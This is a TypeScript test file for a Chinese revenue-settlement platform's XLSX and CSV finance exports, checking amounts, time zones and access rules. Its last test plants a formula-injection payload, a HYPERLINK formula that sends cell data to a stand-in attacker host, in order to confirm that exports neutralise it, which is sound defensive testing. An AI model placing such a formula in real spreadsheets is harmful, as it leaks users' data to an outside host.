/**
 * Finance exports (issue "For the people at the screens", finance part): statements, whole
 * settlements, share summaries and the charges behind a statement as XLSX (exceljs reads them back)
 * and CSV with a BOM; amounts as numbers with two decimals whose totals equal the API's to the fen;
 * instants in Asia/Shanghai; a formula-like name stays text; each export keeps its data's access rule.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { seedOnce, sql } from '@pdo/platform';
import { startTestStack, who, type TestStack } from '@pdo/testing';
import { DEMO_USAGE_AGREEMENTS, DEMO_PRODUCTS, orgByKey } from '@pdo/demo';
import { formatYuan } from '@pdo/policy';
import { definition } from '../src/index.js';
import { demoSettlementId } from '../src/seed.js';

let stack: TestStack;
const SETTLEMENT = demoSettlementId('HN');
const MARKET = orgByKey('hn-src-market').id;
const TRANSPORT = orgByKey('hn-src-transport').id;
const HN_OP = orgByKey('hn-operator').id;
const finance = who('FINANCE', orgByKey('hn-authority').id, 'HN');
const qhdFinance = who('FINANCE', orgByKey('qhd-authority').id, 'QHD');
const source = who('SOURCE_UNIT', MARKET, 'HN');
const operator = who('OPERATOR', HN_OP, 'HN');

beforeAll(async () => {
  stack = await startTestStack([definition], { gateway: true });
  await seedOnce(stack.runtimes.revenue!);
}, 120_000);
afterAll(async () => {
  await stack?.stop();
});

const FILE = `filename contentType base64`;
const STATEMENT = `query($s: ID!, $p: String!, $k: RevenuePartyKind) { revenueStatement(settlementId: $s, partyId: $p, partyKind: $k) { partyKind partyName total { fen yuan } lines { productId productCode productRevenue { fen yuan } amount { fen yuan } } csv } }`;
const STATEMENT_EXPORT = `query($s: ID!, $p: String!, $k: RevenuePartyKind, $f: ExportFormat, $l: ExportLanguage) { revenueStatementExport(settlementId: $s, partyId: $p, partyKind: $k, format: $f, language: $l) { ${FILE} } }`;
const SETTLEMENT_EXPORT = `query($s: ID!, $f: ExportFormat, $l: ExportLanguage) { settlementExport(settlementId: $s, format: $f, language: $l) { ${FILE} } }`;
const CHARGES_EXPORT = `query($s: ID!, $p: String!, $k: RevenuePartyKind, $f: ExportFormat, $l: ExportLanguage) { revenueStatementChargesExport(settlementId: $s, partyId: $p, partyKind: $k, format: $f, language: $l) { ${FILE} } }`;
const SUMMARY_EXPORT = `query($g: RevenueSummaryGroup!, $filter: RevenueShareFilter, $f: ExportFormat, $l: ExportLanguage) { revenueShareSummaryExport(groupBy: $g, filter: $filter, format: $f, language: $l) { ${FILE} } }`;

async function ok(query: string, variables: Record<string, unknown>, as: ReturnType<typeof who>) {
  const r = await stack.gql(query, variables, { as });
  expect(r.errors, JSON.stringify(r.errors)).toBeUndefined();
  return r.data;
}
async function workbook(file: { base64: string; contentType: string; filename: string }) {
  expect(file.contentType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  expect(file.filename).toMatch(/\.xlsx$/);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(file.base64, 'base64') as never);
  return wb;
}
/** A sheet as header → column number, and its data rows (header excluded). */
function sheet(ws: ExcelJS.Worksheet) {
  const header = new Map<string, number>();
  ws.getRow(1).eachCell((c, n) => header.set(String(c.value), n));
  const rows: ExcelJS.Row[] = [];
  for (let i = 2; i <= ws.rowCount; i++) rows.push(ws.getRow(i));
  const col = (name: string) => {
    const n = header.get(name);
    expect(n, `column ${name} in ${[...header.keys()].join(',')}`).toBeDefined();
    return n!;
  };
  return { header, rows, col, total: rows[rows.length - 1]!, data: rows.slice(0, -1) };
}
/** A money cell: a number shown with two decimals; returned as its exact yuan string. */
function money(cell: ExcelJS.Cell): string {
  expect(typeof cell.value).toBe('number');
  expect(cell.numFmt).toBe('#,##0.00');
  return (cell.value as number).toFixed(2);
}
const yuan = (fen: bigint | string) => formatYuan(BigInt(fen));
const shanghai = (iso: string) => new Date(new Date(iso).getTime() + 8 * 3600_000).toISOString().slice(0, 19).replace('T', ' ');
function parseCsv(text: string): string[][] {
  // Enough of RFC 4180 for these files: quoted cells with doubled quotes, CRLF rows.
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let q = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (q) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') q = false;
      else cell += ch;
    } else if (ch === '"') q = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}

describe('statement export', () => {
  it('XLSX with Chinese headers, party names, two-decimal numbers and a totals row equal to the API total', async () => {
    const { revenueStatement: st } = await ok(STATEMENT, { s: SETTLEMENT, p: MARKET }, source);
    const { revenueStatementExport: file } = await ok(STATEMENT_EXPORT, { s: SETTLEMENT, p: MARKET }, source);
    const wb = await workbook(file);
    const s = sheet(wb.worksheets[0]!);
    for (const h of ['结算编号', '期间起', '分配方类别', '分配方编号', '分配方名称', '产品编码', '产品名称', '产品收入（元）', '权重', '计算依据', '金额（元）']) s.col(h);
    expect(s.data).toHaveLength(st.lines.length);
    expect(st.lines.length).toBeGreaterThan(0);
    s.data.forEach((row, i) => {
      expect(row.getCell(s.col('分配方名称')).value).toBe('河南省市场监督管理局');
      expect(row.getCell(s.col('分配方编号')).value).toBe(MARKET);
      expect(row.getCell(s.col('分配方类别')).value).toBe('数据提供单位');
      expect(row.getCell(s.col('产品编码')).value).toBe(st.lines[i].productCode);
      expect(money(row.getCell(s.col('金额（元）')))).toBe(st.lines[i].amount.yuan);
      expect(money(row.getCell(s.col('产品收入（元）')))).toBe(st.lines[i].productRevenue.yuan);
    });
    expect(s.total.getCell(1).value).toBe('合计');
    expect(money(s.total.getCell(s.col('金额（元）')))).toBe(yuan(st.total.fen));
    // A calendar day is a date cell.
    expect(s.data[0]!.getCell(s.col('期间起')).value).toEqual(new Date('2026-07-01T00:00:00Z'));
  });

  it('the English variant and the CSV (with a BOM, produced by the API)', async () => {
    const { revenueStatement: st } = await ok(STATEMENT, { s: SETTLEMENT, p: MARKET }, source);
    const { revenueStatementExport: en } = await ok(STATEMENT_EXPORT, { s: SETTLEMENT, p: MARKET, l: 'EN' }, source);
    const s = sheet((await workbook(en)).worksheets[0]!);
    expect(s.header.has('金额（元）')).toBe(false);
    expect(s.data[0]!.getCell(s.col('Party name')).value).toBe('河南省市场监督管理局');
    expect(s.data[0]!.getCell(s.col('Party kind')).value).toBe('Source agency');
    expect(s.total.getCell(1).value).toBe('Total');
    expect(money(s.total.getCell(s.col('Amount (CNY)')))).toBe(yuan(st.total.fen));

    const { revenueStatementExport: csv } = await ok(STATEMENT_EXPORT, { s: SETTLEMENT, p: MARKET, f: 'CSV' }, source);
    expect(csv.contentType).toBe('text/csv; charset=utf-8');
    expect(csv.filename).toMatch(/\.csv$/);
    const bytes = Buffer.from(csv.base64, 'base64');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.subarray(3).toString('utf8'));
    expect(rows[0]).toContain('分配方名称');
    const amount = rows[0]!.indexOf('金额（元）');
    expect(rows.at(-1)![0]).toBe('合计');
    expect(rows.at(-1)![amount]).toBe(yuan(st.total.fen));
    // The statement's own csv field keeps working (raw text; the file export is the one with a BOM).
    expect(st.csv.startsWith('\ufeff')).toBe(false);
    expect(st.csv).toContain('HN-CP-0001');
  });

  it('a party sees only its own statement export; finance of another jurisdiction sees none', async () => {
    const other = await stack.gql(STATEMENT_EXPORT, { s: SETTLEMENT, p: MARKET }, { as: who('SOURCE_UNIT', TRANSPORT, 'HN') });
    expect(other.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const qhd = await stack.gql(STATEMENT_EXPORT, { s: SETTLEMENT, p: MARKET }, { as: qhdFinance });
    expect(qhd.errors?.[0]?.extensions?.code).toBe('NOT_FOUND'); // another jurisdiction's object is not found (access/scope.ts)
    const fin = await stack.gql(STATEMENT_EXPORT, { s: SETTLEMENT, p: MARKET }, { as: finance });
    expect(fin.errors).toBeUndefined();
  });
});

describe('whole settlement export', () => {
  it('every party, reconciling with the settlement: shares = per-party totals = charges = total', async () => {
    const q = await ok(
      `query($s: ID!) { settlement(id: $s) { total { fen yuan } startedAt completedAt reconciliation { charges { fen yuan } shares { fen yuan } reconciled } }
         revenueShareSummary(groupBy: PARTY, filter: { settlementId: $s }) { key partyKind name amount { fen yuan } } }`,
      { s: SETTLEMENT },
      finance,
    );
    const total = q.settlement.total.yuan as string;
    expect(q.settlement.reconciliation.reconciled).toBe(true);
    const { settlementExport: file } = await ok(SETTLEMENT_EXPORT, { s: SETTLEMENT }, finance);
    const wb = await workbook(file);
    const [shares, parties, charges, header] = wb.worksheets.map(sheet) as [ReturnType<typeof sheet>, ReturnType<typeof sheet>, ReturnType<typeof sheet>, ReturnType<typeof sheet>];
    expect(wb.worksheets.map((w) => w.name)).toEqual(['分成明细', '分配方汇总', '费用汇总', '结算']);
    expect(money(shares.total.getCell(shares.col('金额（元）')))).toBe(total);
    expect(money(parties.total.getCell(parties.col('金额（元）')))).toBe(total);
    expect(money(charges.total.getCell(charges.col('金额（元）')))).toBe(q.settlement.reconciliation.charges.yuan);
    // Per party: the same amounts and names as revenueShareSummary.
    expect(parties.data).toHaveLength(q.revenueShareSummary.length);
    for (const r of q.revenueShareSummary) {
      const row = parties.data.find((x) => x.getCell(parties.col('分配方编号')).value === r.key)!;
      expect(row, r.key).toBeDefined();
      expect(money(row.getCell(parties.col('金额（元）')))).toBe(r.amount.yuan);
      expect(row.getCell(parties.col('分配方名称')).value).toBe(r.name);
    }
    // Times for a person: Asia/Shanghai wall clock.
    const h = header.rows[0]!;
    expect(h.getCell(header.col('完成时间（北京时间）')).value).toEqual(new Date(shanghai(q.settlement.completedAt).replace(' ', 'T') + 'Z'));
    expect(h.getCell(header.col('完成时间（北京时间）')).numFmt).toBe('yyyy-mm-dd hh:mm:ss');

    // The CSV is the share lines of every party, with a BOM and times never in UTC.
    const { settlementExport: csv } = await ok(SETTLEMENT_EXPORT, { s: SETTLEMENT, f: 'CSV', l: 'EN' }, finance);
    const text = Buffer.from(csv.base64, 'base64').toString('utf8');
    expect(text.startsWith('\ufeff')).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows[0]).toContain('Party name');
    expect(rows.at(-1)![rows[0]!.indexOf('Amount (CNY)')]).toBe(total);
    expect(new Set(rows.slice(1, -1).map((r) => r[rows[0]!.indexOf('Party ID')]))).toEqual(new Set(q.revenueShareSummary.map((r: any) => r.key)));
  });

  it('is finance\'s own: a party or another jurisdiction is refused', async () => {
    const src = await stack.gql(SETTLEMENT_EXPORT, { s: SETTLEMENT }, { as: source });
    expect(src.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const qhd = await stack.gql(SETTLEMENT_EXPORT, { s: SETTLEMENT }, { as: qhdFinance });
    expect(qhd.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const missing = await stack.gql(SETTLEMENT_EXPORT, { s: '00000000-0000-4000-8000-000000000000' }, { as: finance });
    expect(missing.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
  });
});

describe('charges behind a statement', () => {
  const hnDeveloper = () => {
    const hnProducts = new Set(DEMO_PRODUCTS.filter((p) => p.jurisdiction === 'HN' && p.category === 'PAID').map((p) => p.id));
    return DEMO_USAGE_AGREEMENTS.find((u) => hnProducts.has(u.productId))!.developerId;
  };

  it('a developer\'s charges sum to its statement total; times are Asia/Shanghai', async () => {
    const dev = hnDeveloper();
    const developer = who('DEVELOPER', dev, 'HN');
    const { revenueStatement: st } = await ok(STATEMENT, { s: SETTLEMENT, p: dev, k: 'DEVELOPER' }, developer);
    expect(BigInt(st.total.fen)).toBeGreaterThan(0n);
    const { revenueStatementChargesExport: file } = await ok(CHARGES_EXPORT, { s: SETTLEMENT, p: dev, k: 'DEVELOPER' }, developer);
    const s = sheet((await workbook(file)).worksheets[0]!);
    expect(money(s.total.getCell(s.col('金额（元）')))).toBe(st.total.yuan);
    for (const r of s.data) expect(r.getCell(s.col('开发者编号')).value).toBe(dev);

    const { revenueStatementChargesExport: csv } = await ok(CHARGES_EXPORT, { s: SETTLEMENT, p: dev, k: 'DEVELOPER', f: 'CSV' }, developer);
    const rows = parseCsv(Buffer.from(csv.base64, 'base64').toString('utf8').slice(1));
    const [idCol, atCol] = [rows[0]!.indexOf('费用编号'), rows[0]!.indexOf('发生时间（北京时间）')];
    const { charges } = await ok(`{ charges(first: 1000) { edges { node { id occurredAt } } } }`, {}, developer);
    const byId = new Map(charges.edges.map((e: any) => [e.node.id, e.node.occurredAt]));
    const data = rows.slice(1, -1);
    expect(data.length).toBeGreaterThan(0);
    for (const r of data) {
      expect(r[atCol]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
      expect(r[atCol]).toBe(shanghai(byId.get(r[idCol]) as string));
    }
    expect(rows.flat().some((c) => /\d{2}:\d{2}(:\d{2}(\.\d+)?)?Z$/.test(c))).toBe(false);
  });

  it('a share party\'s charges reconcile per product with the statement lines (finance, operator); a source agency may not export charges', async () => {
    const { revenueStatement: st } = await ok(STATEMENT, { s: SETTLEMENT, p: MARKET }, finance);
    const { revenueStatementChargesExport: file } = await ok(CHARGES_EXPORT, { s: SETTLEMENT, p: MARKET, l: 'EN' }, finance);
    const s = sheet((await workbook(file)).worksheets[0]!);
    const perProduct = new Map<string, bigint>();
    for (const r of s.data) {
      const code = String(r.getCell(s.col('Product code')).value);
      perProduct.set(code, (perProduct.get(code) ?? 0n) + BigInt(money(r.getCell(s.col('Amount (CNY)'))).replace('.', '')));
    }
    const expected = new Map<string, bigint>();
    for (const l of st.lines) expected.set(l.productCode, BigInt(l.productRevenue.fen));
    expect(perProduct).toEqual(expected);
    const sumFen = [...expected.values()].reduce((a, b) => a + b, 0n);
    expect(money(s.total.getCell(s.col('Amount (CNY)')))).toBe(yuan(sumFen));

    const { revenueStatement: opSt } = await ok(STATEMENT, { s: SETTLEMENT, p: HN_OP }, operator);
    const { revenueStatementChargesExport: opFile } = await ok(CHARGES_EXPORT, { s: SETTLEMENT, p: HN_OP }, operator);
    const o = sheet((await workbook(opFile)).worksheets[0]!);
    const productRevenue = [...new Map(opSt.lines.map((l: any) => [l.productId, BigInt(l.productRevenue.fen)])).values()].reduce((a: bigint, b) => a + (b as bigint), 0n);
    expect(money(o.total.getCell(o.col('金额（元）')))).toBe(yuan(productRevenue as bigint));

    const src = await stack.gql(CHARGES_EXPORT, { s: SETTLEMENT, p: MARKET }, { as: source });
    expect(src.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const otherDev = await stack.gql(CHARGES_EXPORT, { s: SETTLEMENT, p: hnDeveloper(), k: 'DEVELOPER' }, { as: who('DEVELOPER', '00000000-0000-4000-8000-0000000000aa', 'HN') });
    expect(otherDev.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
  });
});

describe('statements of a settlement', () => {
  const PAGE = `query($s: ID!, $n: Int) { revenueStatements(settlementId: $s, first: $n) { totalCount edges { node { partyKind partyId partyName total { fen } lines { amount { fen } } } } } }`;

  it('pages every party\'s statement, each equal to the single statement, in a flat number of SQL statements', async () => {
    const one = await stack.subgraph('revenue', PAGE, { s: SETTLEMENT, n: 1 }, { as: finance });
    const all = await stack.subgraph('revenue', PAGE, { s: SETTLEMENT, n: 50 }, { as: finance });
    expect(one.errors).toBeUndefined();
    expect(all.errors).toBeUndefined();
    const nodes = all.data.revenueStatements.edges.map((e: any) => e.node);
    expect(nodes.length).toBeGreaterThan(3);
    expect(nodes.length).toBe(all.data.revenueStatements.totalCount);
    expect(all.extensions?.sqlStatements).toEqual(one.extensions?.sqlStatements);
    for (const n of nodes) {
      const single = (await ok(STATEMENT, { s: SETTLEMENT, p: n.partyId, k: n.partyKind }, finance)).revenueStatement;
      expect(n.total.fen, `${n.partyKind} ${n.partyId}`).toBe(single.total.fen);
      expect(n.partyName).toBe(single.partyName);
      expect(n.lines.map((l: any) => l.amount.fen)).toEqual(single.lines.map((l: any) => l.amount.fen));
      expect(n.lines.reduce((a: bigint, l: any) => a + BigInt(l.amount.fen), 0n)).toBe(BigInt(n.total.fen));
    }
  });
});

describe('revenue share summary', () => {
  const SUMMARY = `query($filter: RevenueShareFilter) { revenueShareSummary(groupBy: PARTY, filter: $filter) { key partyKind name amount { fen yuan } } }`;

  it('returns each party\'s name and kind, in a flat number of SQL statements however many parties', async () => {
    const one = await stack.subgraph('revenue', SUMMARY, { filter: { settlementId: SETTLEMENT, partyId: MARKET } }, { as: finance });
    const all = await stack.subgraph('revenue', SUMMARY, { filter: { settlementId: SETTLEMENT } }, { as: finance });
    expect(one.errors).toBeUndefined();
    expect(all.errors).toBeUndefined();
    expect(one.data.revenueShareSummary).toEqual([expect.objectContaining({ key: MARKET, partyKind: 'SOURCE_AGENCY', name: '河南省市场监督管理局' })]);
    const rows = all.data.revenueShareSummary as { key: string; partyKind: string; name: string | null }[];
    expect(rows.length).toBeGreaterThan(3);
    for (const r of rows) expect(r.name, `${r.partyKind} ${r.key}`).toBeTruthy();
    // HN's revenue right is paid to the supplying units (HN Art 21; profile setting revenueRightPayee), not the province.
    expect(rows.find((r) => r.partyKind === 'JURISDICTION')).toBeUndefined();
    expect(rows.find((r) => r.key === HN_OP)).toMatchObject({ partyKind: 'OPERATOR', name: orgByKey('hn-operator').nameZh });
    expect(one.extensions?.sqlStatements).toMatchObject({ revenue: expect.any(Number) });
    expect(all.extensions?.sqlStatements).toEqual(one.extensions?.sqlStatements);
  });

  it('exports by party, product and period with names and a totals row equal to the sum of the API\'s amounts', async () => {
    for (const g of ['PARTY', 'PRODUCT', 'PERIOD'] as const) {
      const { revenueShareSummary: api } = await ok(`query($g: RevenueSummaryGroup!) { revenueShareSummary(groupBy: $g, filter: { jurisdiction: "HN" }) { key name amount { fen yuan } } }`, { g }, finance);
      const { revenueShareSummaryExport: file } = await ok(SUMMARY_EXPORT, { g, filter: { jurisdiction: 'HN' } }, finance);
      const s = sheet((await workbook(file)).worksheets[0]!);
      expect(s.data).toHaveLength(api.length);
      const sumFen = api.reduce((a: bigint, r: any) => a + BigInt(r.amount.fen), 0n);
      expect(money(s.total.getCell(s.col('金额（元）')))).toBe(yuan(sumFen));
      api.forEach((r: any, i: number) => {
        expect(s.data[i]!.getCell(1).value).toBe(r.key);
        expect(s.data[i]!.getCell(s.col('名称')).value ?? null).toBe(r.name);
      });
      if (g === 'PRODUCT') expect(s.data.every((r) => /^HN-/.test(String(r.getCell(s.col('编码')).value)))).toBe(true);
    }
    // A source agency's summary export holds only its own shares.
    const { revenueShareSummaryExport: own } = await ok(SUMMARY_EXPORT, { g: 'PARTY' }, source);
    const s = sheet((await workbook(own)).worksheets[0]!);
    expect(s.data.map((r) => r.getCell(1).value)).toEqual([MARKET]);
  });
});

describe('formula guard', () => {
  it('a formula-like party name is a plain string cell in XLSX and neutralised in CSV', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
    const em = stack.em('revenue');
    const [{ name_zh: before }] = (await sql<{ name_zh: string }>(em, `select name_zh from org_projection where id = $1`, [MARKET])) as [{ name_zh: string }];
    // The registry renamed the agency (as OrganizationRegistered would): the name is party input.
    await sql(em, `update org_projection set name_zh = $2 where id = $1`, [MARKET, evil]);
    try {
      const { revenueStatementExport: file } = await ok(STATEMENT_EXPORT, { s: SETTLEMENT, p: MARKET }, source);
      const ws = (await workbook(file)).worksheets[0]!;
      const s = sheet(ws);
      const cell = s.data[0]!.getCell(s.col('分配方名称'));
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(evil);
      expect(cell.formula).toBeUndefined();
      const { settlementExport: whole } = await ok(SETTLEMENT_EXPORT, { s: SETTLEMENT }, finance);
      const parties = sheet((await workbook(whole)).worksheets[1]!);
      const named = parties.data.find((r) => r.getCell(parties.col('分配方编号')).value === MARKET)!.getCell(parties.col('分配方名称'));
      expect(named.type).toBe(ExcelJS.ValueType.String);
      expect(named.value).toBe(evil);

      const { revenueStatementExport: csv } = await ok(STATEMENT_EXPORT, { s: SETTLEMENT, p: MARKET, f: 'CSV' }, source);
      const text = Buffer.from(csv.base64, 'base64').toString('utf8');
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`);
      expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    } finally {
      await sql(em, `update org_projection set name_zh = $2 where id = $1`, [MARKET, before]);
    }
  });
});
